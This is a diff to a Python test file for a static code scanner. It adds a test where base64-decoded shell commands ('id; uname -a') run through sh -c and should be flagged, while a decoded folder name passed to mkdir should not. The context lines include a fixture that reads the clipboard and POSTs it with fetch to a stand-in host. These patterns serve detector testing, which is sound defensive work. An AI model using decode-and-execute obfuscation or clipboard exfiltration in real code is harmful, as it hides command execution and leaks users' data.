@@ -613,3 +613,21 @@ def test_the_clipboard_read_through_a_child_process_is_a_source_in_javascript():
         'fetch("https://snippets.example.net/in", { method: "POST", body: text });\n'
     )
     assert (FLOW, 3) in _loud({"clip.js": js})
+
+
+# --- 25. a decoded value handed to a fixed program that runs no code is that program's data, not decoded code run ---
+
+ARGV_TEMPLATE = """import base64
+import subprocess
+
+VALUE = "{encoded}"
+subprocess.run([{argv}, base64.b64decode(VALUE).decode()], check=True)
+"""
+
+
+def test_decoded_code_handed_to_a_shell_is_stopped_and_a_decoded_folder_handed_to_mkdir_passes(tmp_path, env):  # noqa: F811
+    import base64
+
+    bad = ARGV_TEMPLATE.format(encoded=base64.b64encode(b"id; uname -a").decode(), argv='"sh", "-c"')
+    good = ARGV_TEMPLATE.format(encoded=base64.b64encode(b"build/reports").decode(), argv='"mkdir", "-p"')
+    stopped_at_line_and_twin_quiet(tmp_path, env, "prepare.py", bad, good, "skillscope/obfuscation/decode-exec", 5)
